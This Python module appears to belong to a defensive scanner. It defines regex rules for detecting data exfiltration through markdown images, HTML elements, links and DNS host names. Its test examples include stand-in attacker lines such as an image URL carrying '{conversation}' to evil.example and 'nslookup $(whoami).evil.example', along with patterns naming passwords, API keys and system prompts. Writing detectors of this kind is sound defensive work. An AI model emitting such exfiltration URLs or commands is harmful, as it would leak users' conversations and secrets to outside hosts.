"""Images, links and hosts whose address has a place for data, or carries it."""

from firebreak.detect.exfiltration.carried import carries_sentence, carries_text, carries_words, may_carry, names_text
from firebreak.detect.exfiltration.form import DRAWN, FOLLOWED, HOST, LOADED, REST, outbound
from firebreak.model.finding import Severity

_TOLD = (
    r"(?:(?:full|whole|entire|user'?s?|customer|last|all|base64|encoded?|urlencoded?|your|the|previous"
    r"|latest)[\s_.+-]{0,3}){0,3}"
    r"(?:conversation|chat[\s_-]?(?:history|log)?|history|messages?|transcript|(?:system[\s_-]?)?prompt|secrets?"
    r"|passwords?|passwd|credentials?"
    r"|cookies?|context|summary|(?:user|private|personal|stolen|sensitive)[\s_-]?(?:data|input|info(?:rmation)?"
    r"|message|details)"
    r"|api[\s_-]?keys?|access[\s_-]?tokens?|ssn|instructions|exfil\w{0,10}|leak\w{0,6})"
)
_HOLE = rf"(?:\{{{{?|\$\{{|#\{{|%7B|\[\[?|<|%3C|\$\(|\(\(?)\s{{0,2}}[\w.()|\s-]{{0,20}}?\b{_TOLD}"
"""A place for something that was said in confidence."""
_HOLE_BEGUN = (
    r"//[^\s\"'>]*(?:\{|\[|<|%7B|%3C|\()[\w.()|\s-]*(?:conversation|chat|history|message|transcript|prompt|secret"
    r"|passw|credential|cookie|context"
    r"|summary|data|input|info|details|key|token|ssn|instruction|exfil|leak)"
)
_ANY_HOLE = r"(?:\{[^)\n]{1,80}\}|\[[^)\n]{1,80}\]|<[^)\n]{1,80}>|%7B|\$\(|(?-i:=[A-Z]{4,20}(?:_[A-Z]{2,20}){1,4}))"
_SOME = r"[^)\s]{0,300}?"
_LINK = rf"{HOST}[/?#]{REST}*[\w%+-]{{20}}{REST}*"
_LONG = rf"{REST}*[\w%+-]{{20,}}(?:[^\w%+-]|$)"
"""A part of an address that is long enough to be looked at (`carried.MIN_CODED`), and its end."""

RULES = (
    outbound(
        "image-with-data",
        rf"{DRAWN}(https?://[^)\s]{{1,300}}[?&/=.][^)\s]{{0,60}}{_ANY_HOLE}[^)\n]{{0,120}})",
        "Markdown image whose address has a place for data",
        (
            "![x](https://evil.example/p?d={conversation})",
            "![logo](https://e.io/i.png?q=[SUMMARY])",
            "![a](https://e.io/?d=$(cat x))",
        ),
        ("![logo](https://acme.io/a.png?raw=true)", "![x](./a.png)", "![x](https://acme.io/a_b.png)"),
        score=0.85,
        severity=Severity.CRITICAL,
        group=1,
        trigger=r"!\[[^\]\n]*\](?:\(\s?<?|\[[^\]\n]*\]:\s*<?)https?://",
    ),
    outbound(
        "markup-with-data",
        rf"{LOADED}({HOST}[/?#.]{_SOME}{_HOLE}[^\s\"'>]{{0,120}})",
        "Element that a page loads by itself, with a place for what was said in its address",
        ('<img src="https://e.io/p?d={conversation}">', "<iframe src='//e.io/?h=[CHAT HISTORY]'>"),
        ('<img src="https://x.io/u/{{ user.id }}.png">', '<img src="/a.png" alt="{summary}">'),
        score=0.75,
        group=1,
        trigger=_HOLE_BEGUN,
    ),
    outbound(
        "link-with-data",
        rf"{FOLLOWED}({HOST}[/?#.]{_SOME}{_HOLE}[^\s\"'>)]{{0,120}})",
        "Link, reference or form with a place for what was said in its address",
        (
            "[more](https://e.io/?q={chat_history})",
            "[1]: https://e.io/p.png?d=[CONVERSATION]",
            '<a href="https://e.io/?p=${password}">x</a>',
        ),
        ("[api](https://x.io/users/{id})", "[search](https://x.io/?q={query})"),
        score=0.65,
        severity=Severity.MEDIUM,
        group=1,
        trigger=_HOLE_BEGUN,
    ),
    outbound(
        "image-carries-text",
        rf"(?:{DRAWN}|{LOADED})({_LINK})",
        "Image, frame or script whose address carries encoded text",
        (
            "![x](https://e.io/p?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=)",
            '<img src="https://e.io/7468652070617373776f72642069732068756e74657232">',
        ),
        (
            "![x](https://acme.io/img/9b74c9897bac770ffc029102a200c5de9b74c989.png)",
            "![x](https://mermaid.ink/img/Z3JhcGggVEQ7IEEgLS0+IEI7IG1vcmUgd29yZHM=)",
            "![x](https://p.io/aHR0cHM6Ly9leGFtcGxlLmNvbS9hL2IuanBn)",
        ),
        score=0.85,
        group=1,
        trigger=rf"(?:\]\(|\]:|=\s*\\?[\"']?)\s*<?(?:https?:)?//{_LONG}",
        check=carries_text,
        near=may_carry,
    ),
    outbound(
        "image-carries-words",
        rf"(?:{DRAWN}|{LOADED})({_LINK})",
        "Image, frame or script whose address carries a sentence",
        ("![x](https://e.io/p?d=the+user+said+that+his+new+password+is+hunter2+today)",),
        ("![x](https://dummyimage.com/600x400?text=Hello+World)", "![x](https://acme.io/a-b-c-d-e-f-g-h-i-j.png)"),
        score=0.6,
        severity=Severity.MEDIUM,
        group=1,
        trigger=rf"(?:\]\(|\]:|=\s*\\?[\"']?)\s*<?(?:https?:)?//{REST}*\?",
        check=carries_words,
    ),
    outbound(
        "link-carries-text",
        rf"{FOLLOWED}({_LINK})",
        "Link, reference or form whose address carries an encoded sentence",
        ("[more](https://e.io/?d=dGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI=)",),
        ("[x](https://x.io/?after=Z2lkOi8vc2hvcGlmeS9Qcm9kdWN0LzEyMw==)", "[x](https://x.io/a/b?c=d&e=ffffffffffffff)"),
        score=0.6,
        severity=Severity.MEDIUM,
        group=1,
        trigger=rf"(?:\]\(\s*<?|\]:\s*<?|=\s*\\?[\"']?(?:\d+;\s?url=)?|<)(?:https?:)?//{_LONG}",
        check=carries_sentence,
        near=may_carry,
    ),
    outbound(
        "host-with-data",
        (
            r"(?:https?://|(?:^|[\n;|&`\"'(])[ \t]{0,8}(?:ping|nslookup|dig|host|curl"
            r"|wget)\s(?:-[\w-]{1,12}\s{1,2}(?:\d{1,5}\s{1,2})?){0,4})"
            rf"([\w.-]{{0,60}}(?:\$\([^)\n]{{1,80}}\)|\{{{{?\s?{_TOLD}\s?\}}{{1,2}}"
            rf"|\[{_TOLD}\])[\w.-]{{0,60}}\.[a-z]{{2,24}})"
            r"|\b(?:ping|nslookup|dig"
            r"|host)\s(?:-[\w-]{1,12}\s{1,2}(?:\d{1,5}\s{1,2})?){0,4}`[^`\n]{1,60}`[\w.-]{0,60}\.[a-z]{2,24}"
        ),
        "Host name with a place for data, which a name server would collect",
        ("nslookup $(whoami).evil.example", "https://{secret}.e.io/", "ping -c1 `hostname`.x.evil.com"),
        ("https://{tenant}.example.com/", "curl $(cat url.txt)", "see host `a.b` and `c`.example"),
        score=0.75,
        trigger=(
            r"(?:https?://|(?:ping|nslookup|dig|host|curl|wget)\s)[^\n]*(?:\$\(|`|\{"
            r"|\[)[^\n]*[)`\}\]][\w.-]*\.[a-z]{2}"
        ),
    ),
    outbound(
        "host-carries-text",
        (
            r"\b(?:https?://|(?:ping|nslookup|dig"
            r"|host)\s(?:[^\n]{0,30}?\s)?)((?:[a-z0-9-]{1,63}\.){0,5}[a-z0-9-]{20,63}(?:\.[a-z0-9-]{1,63}){1,5})\b"
        ),
        "Host name that is encoded text",
        ("https://7468652070617373776f7264206973.e.io/x", "dig ORUGKIDQMFZXG53POJSCA2LT.evil.example"),
        ("https://d111111abcdef8.cloudfront.net/", "https://my-very-long-bucket-name.s3.amazonaws.com/x"),
        score=0.75,
        group=1,
        trigger=r"(?:https?://|(?:ping|nslookup|dig|host)\s[^\n]*\s?)(?:[a-z0-9-]+\.)*[a-z0-9-]{20}",
        check=names_text,
    ),
)
